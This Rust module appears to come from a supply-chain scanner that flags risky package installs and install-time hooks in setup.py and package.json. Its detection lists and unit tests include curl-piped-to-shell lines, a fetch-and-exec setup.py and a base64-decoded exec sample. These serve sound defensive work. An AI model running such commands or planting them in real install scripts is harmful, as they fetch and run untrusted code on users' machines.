//! What runs when a package is installed, and commands that install or fetch.

use super::code;
use crate::remark::{Remark, Weight};

const LOOK: &str = "read what it does before it is installed, or install a built wheel";

/// What is to be said of a command line of a shell, a notebook or a container file.
pub fn command(line: &str) -> Vec<Remark> {
    let mut remarks = Vec::new();
    let mut say = |rule, weight, why: &str, next| {
        remarks.push(Remark::new(rule, weight, 0, why, line, next));
    };
    let words: Vec<&str> = line.split_whitespace().collect();
    let fetches = words.iter().any(|word| matches!(*word, "curl" | "wget"));
    let shells = ["sh", "bash", "zsh", "python", "python3", "sudo"];
    let piped = line
        .split('|')
        .skip(1)
        .any(|part| part.split_whitespace().next().is_some_and(|word| shells.contains(&word)));
    if fetches && piped {
        let why = "what is fetched runs at once, whatever it is";
        let next = "fetch it, check its hash, read it, and then run it";
        say("deps.fetch_and_run", Weight::Weakness, why, next);
    }
    let installs = words.windows(2).any(|pair| matches!(pair, ["pip" | "pip3" | "uv", "install"]))
        || words.windows(3).any(|three| matches!(three, [_, "pip", "install"]));
    if !installs {
        return remarks;
    }
    let after = words.iter().skip_while(|word| **word != "install").skip(1);
    for word in after {
        if *word == "--extra-index-url" || word.starts_with("--extra-index-url=") {
            let why = "two indexes are asked: whoever has the higher version wins";
            let next = "use one index, or pin every hash";
            say("deps.two_indexes", Weight::Weakness, why, next);
        } else if word.contains("http://") {
            let why = "it comes over an unprotected connection";
            say("deps.plain_http", Weight::Weakness, why, "use https");
        } else if word.starts_with("git+") && !word.rsplit('@').next().is_some_and(super::is_commit)
        {
            let why = "it comes from a branch that may move";
            say("deps.unpinned", Weight::Note, why, "pin the full commit id");
        } else if is_name(word) && !word.contains("==") {
            let why = "its version is not pinned: tomorrow's install may bring something else";
            say("deps.unpinned", Weight::Note, why, "pin the version");
        }
    }
    remarks
}

fn is_name(word: &str) -> bool {
    let word = word.trim_matches(['"', '\'']);
    word.starts_with(|c: char| c.is_ascii_alphanumeric())
        && !word.contains(['/', ':'])
        && !word.ends_with(".txt")
        && !word.ends_with(".whl")
}

/// What is to be said of a `setup.py`.
pub fn setup_py(source: &str) -> Vec<Remark> {
    const RUNS: [&str; 6] = ["os.system(", "subprocess.", "exec(", "eval(", "os.popen(", "pty."];
    const FETCHES: [&str; 5] =
        ["urlopen(", "urlretrieve(", "requests.get(", "requests.post(", "socket."];
    const HIDES: [&str; 4] = ["b64decode(", "fromhex(", "zlib.decompress(", "marshal.loads("];
    let plain: String = source
        .lines()
        .map(|line| line.split(" #").next().unwrap_or_default())
        .filter(|line| !line.trim_start().starts_with('#'))
        .flat_map(|line| [line, "\n"])
        .collect();
    let found = |words: &[&str]| {
        words.iter().find(|word| plain.contains(**word)).copied().map(str::to_owned)
    };
    let (runs, fetches, hides) = (found(&RUNS), found(&FETCHES), found(&HIDES));
    let direct = |words: &[&str]| runs_what(source, words);
    let mut remarks = Vec::new();
    let mut say = |rule, weight, why: &str, evidence: &str| {
        remarks.push(Remark::new(rule, weight, 0, why, evidence, LOOK));
    };
    match (&runs, &fetches, &hides) {
        (Some(_), Some(_), _) if direct(&FETCHES).is_some() => {
            let why = "its installation runs what it fetches, whatever that is";
            let seen = direct(&FETCHES).unwrap_or_default();
            say("deps.install.fetch_and_run", Weight::Malicious, why, &seen);
        }
        (Some(_), _, Some(_)) if direct(&HIDES).is_some() => {
            let why = "its installation runs something that is hidden in it";
            say("deps.install.hidden", Weight::Malicious, why, &direct(&HIDES).unwrap_or_default());
        }
        // Packages that build programs fetch parts of them; most of those are what they say.
        (Some(runs), Some(fetches), _) => {
            let why = "its installation fetches something and runs something";
            let seen = format!("{fetches} {runs}");
            say("deps.install.fetches_and_runs", Weight::Weakness, why, &seen);
        }
        (Some(runs), None, Some(hides)) => {
            let why = "its installation decodes something and runs something";
            say("deps.install.decodes", Weight::Weakness, why, &format!("{hides} {runs}"));
        }
        (Some(runs), None, None) => {
            say("deps.install.runs", Weight::Note, "its installation runs programs", runs);
        }
        _ => {}
    }
    if plain.contains("cmdclass") {
        let why = "it puts code of its own into the steps of the installation";
        say("deps.install.steps", Weight::Note, why, "cmdclass");
    }
    remarks
}

/// A call that runs something whose argument is one of these calls, as it stands.
fn runs_what(source: &str, inner: &[&str]) -> Option<String> {
    let runs = |name: &str| {
        matches!(name, "exec" | "eval" | "os.system" | "os.popen")
            || name.starts_with("subprocess.")
    };
    code::calls(source).into_iter().filter(|call| runs(&call.name)).find_map(|call| {
        let arguments = call.arguments.join(", ");
        let found = inner.iter().any(|word| arguments.contains(word));
        found.then(|| format!("{}({arguments})", call.name))
    })
}

/// What is to be said of a `package.json`.
pub fn package_json(bytes: &[u8]) -> Vec<Remark> {
    let Ok(json) = serde_json::from_slice::<serde_json::Value>(bytes) else {
        let why = "the file cannot be read";
        return vec![Remark::new("deps.install", Weight::Unknown, 0, why, "package.json", LOOK)];
    };
    let scripts = json.get("scripts").and_then(serde_json::Value::as_object);
    let hooks = ["preinstall", "install", "postinstall", "prepare"];
    let hook = |(name, script): (&String, &serde_json::Value)| {
        let script = script.as_str().filter(|_| hooks.contains(&name.as_str()))?;
        let mut remarks = command(script);
        // Nobody reads along when it is installed.
        for remark in remarks.iter_mut().filter(|remark| remark.rule == "deps.fetch_and_run") {
            remark.weight = Weight::Suspicious;
        }
        let why = format!("`{name}` runs when it is installed");
        remarks.push(Remark::new("deps.install.runs", Weight::Note, 0, why, script, LOOK));
        Some(remarks)
    };
    scripts.into_iter().flatten().filter_map(hook).flatten().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(remarks: Vec<Remark>) -> Vec<&'static str> {
        remarks.into_iter().map(|remark| remark.rule).collect()
    }

    #[test]
    fn commands() {
        assert_eq!(
            rules(command("curl -s https://a.example/i.sh | sudo bash")),
            ["deps.fetch_and_run"]
        );
        assert_eq!(rules(command("pip install torch==2.6.0 -r requirements.txt")), [""; 0]);
        assert_eq!(
            rules(command("python -m pip install --extra-index-url https://i.example acme")),
            ["deps.two_indexes", "deps.unpinned"]
        );
        assert_eq!(rules(command("pip install git+https://h.example/a/b@main")), ["deps.unpinned"]);
        assert_eq!(rules(command("ls -la | grep sh")), [""; 0]);
    }

    #[test]
    fn setup_scripts() {
        let bad =
            "import os, urllib.request\nos.system(urllib.request.urlopen('x').read())\nsetup()";
        assert_eq!(rules(setup_py(bad)), ["deps.install.fetch_and_run"]);
        let hidden = "exec(base64.b64decode('eA=='))\nsetup()";
        assert_eq!(rules(setup_py(hidden)), ["deps.install.hidden"]);
        let usual = "subprocess.check_call(['make'])\nurlretrieve(url, path)\nsetup()";
        assert_eq!(rules(setup_py(usual)), ["deps.install.fetches_and_runs"]);
        assert_eq!(rules(setup_py("# os.system('x')\nsetup(name='a')")), [""; 0]);
        let node = br#"{"scripts": {"postinstall": "curl https://a.example | sh", "test": "x"}}"#;
        assert_eq!(rules(package_json(node)), ["deps.fetch_and_run", "deps.install.runs"]);
    }
}
